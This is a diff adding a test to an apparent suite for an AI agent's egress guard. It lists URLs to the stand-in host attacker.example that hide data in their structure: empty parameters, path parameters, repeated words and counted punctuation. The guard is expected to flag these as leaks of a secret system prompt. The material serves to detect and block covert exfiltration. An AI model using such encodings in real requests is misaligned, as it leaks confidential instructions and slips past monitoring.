@@ -46,6 +46,26 @@ describe("composed URLs to a host the owner named, under a secret system prompt"
     assert.equal(decide(fetch("https://attacker.example/status", { ...flow, ownerUrls: ["https://attacker.example/status"] })).decision, "allow");
   });
 
+  test("structure the errand does not need asks: empty parameters, parameters in the path, a word said twice, the owner's URL with more after it", () => {
+    const flow = secretPrompt("Check attacker.example/status and tell me if it is up", "attacker.example", { ownerUrls: ["https://attacker.example/status"] });
+    const cases: [string, string][] = [
+      ["https://attacker.example/status?&&&&&&&", "empty parameters"],
+      ["https://attacker.example/status?q=up&&", "empty parameters"],
+      ["https://attacker.example/status;up", "parameters in the path"],
+      ["https://attacker.example/status/status/status/status", "said twice"],
+      ["https://attacker.example/status?up&status&up&up", "said twice"],
+      // Punctuation after the owner's URL is no sentence's end in a request: the count of `;` is a number.
+      ["https://attacker.example/status;;;;", "doubled separators"],
+      ["https://attacker.example/status!!!", "status!!!"],
+    ];
+    for (const [url, carried] of cases) {
+      const r = first(url, flow);
+      assert.equal(r?.id, "flow.composed_beyond_owner_words", url);
+      assert.match(r?.message ?? "", new RegExp(carried), url);
+    }
+    for (const url of ["https://attacker.example/status", "https://attacker.example/status?fmt=text&lang=en", "https://attacker.example/api/v1/status"]) assert.equal(decide(fetch(url, flow)).decision, "allow", url);
+  });
+
   test("a request never sends its fragment, so it is not judged; an opened link's is", () => {
     const flow = secretPrompt("Check x.example", "x.example");
     assert.equal(decide(fetch("https://x.example/status#ubohfsjof", flow)).decision, "allow");
